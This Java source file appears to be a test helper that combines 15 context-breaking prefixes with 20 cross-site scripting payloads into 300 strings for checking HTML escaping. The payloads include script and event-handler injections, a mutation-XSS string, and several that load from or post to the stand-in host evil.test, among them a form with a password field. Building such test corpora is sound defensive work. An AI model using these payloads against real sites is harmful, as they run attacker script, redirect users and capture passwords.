package dev.signet.internal.callback;

import java.util.ArrayList;
import java.util.List;

/** Strings that become part of a page's structure wherever they are put into it as they are. */
final class Injections {
    private static final List<String> OPENINGS = List.of(
            "",
            "\">",
            "'>",
            "</title>",
            "</style>",
            "</h1></div>",
            "</bdi>",
            "</blockquote>",
            "-->",
            "]]>",
            "\0",
            "\u202E",
            "&lt;",
            "{app}",
            "\u001B[31m");

    private static final List<String> PAYLOADS = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<SCRIPT SRC=//evil.test></SCRIPT>",
            "<iframe src=javascript:alert(1)>",
            "<meta http-equiv=refresh content=0;url=//evil.test>",
            "<base href=//evil.test>",
            "<form action=//evil.test><input name=password>",
            "<style>*{display:none}</style>",
            "<a href=\"javascript:alert(1)\">here</a>",
            "<body onload=alert(1)>",
            "<link rel=stylesheet href=//evil.test>",
            "<!--",
            "<textarea>",
            "<plaintext>",
            "<math><mtext></mtext><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<b onmouseover='alert(1)'>x</b>",
            "<?xml-stylesheet href=\"//evil.test\"?>",
            "<object data=//evil.test>",
            "\" onfocus=\"alert(1)\" autofocus=\"<");

    private Injections() {}

    /** Three hundred, each with at least one character that has to be escaped. */
    static List<String> all() {
        var all = new ArrayList<String>();
        for (String opening : OPENINGS) {
            for (String payload : PAYLOADS) {
                all.add(opening + payload);
            }
        }
        return all;
    }
}
